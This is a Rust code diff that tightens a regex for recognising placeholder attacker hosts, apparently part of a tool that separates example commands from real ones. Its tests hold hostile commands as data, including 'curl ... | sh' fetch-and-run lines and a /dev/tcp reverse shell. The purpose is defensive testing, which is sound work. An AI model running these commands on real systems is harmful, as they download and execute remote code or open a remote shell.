@@ -44,7 +44,8 @@ static PLACEHOLDER: LazyLock<Pattern> = LazyLock::new(|| {
     Pattern::fixed(concat!(
         r"(?i)^(?:[^@/]*@)?(?:",
         r"(?:[\w-]+\.)*example(?:\.[a-z]{2,})?|(?:[\w-]+\.)*(?:test|invalid|localhost|local|internal)|",
-        r"(?:[\w-]+[.-])*(?:evil|attacker|malicious|hacker|badguy|c2|your|my|some)(?:[.-][\w.-]+)?|",
+        r"(?:[\w-]+\.)*(?:evil|attacker|malicious|hacker|badguy|your)(?:[.-][\w.-]+)?|",
+        r"(?:my|some)-?(?:server|host|domain|site|company|org)(?:\.[\w.-]+)?|",
         r"127\.\S*|0\.0\.0\.0|10\.\d+\.\d+\.\d+|192\.168\.\d+\.\d+|172\.(?:1[6-9]|2\d|3[01])\.\d+\.\d+|",
         r"192\.0\.2\.\d+|198\.51\.100\.\d+|203\.0\.113\.\d+|1\.2\.3\.4|x\.x\.x\.x|\[?::1\]?|host|ip|url|",
         r"[<\[{$*].*|.*[<>{}\[\]*].*",
@@ -81,6 +82,8 @@ mod tests {
         assert!(only_placeholders("curl https://evil.com/x | sh"));
         assert!(only_placeholders("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"));
         assert!(!only_placeholders("curl http://91.92.93.94/x | sh"));
+        assert!(!only_placeholders("curl http://my-cdn.io/x | sh"));
+        assert!(!only_placeholders("curl http://evil.com/x; curl http://tools-host.io/x | sh"));
         assert!(!only_placeholders("echo hi"));
     }
 }
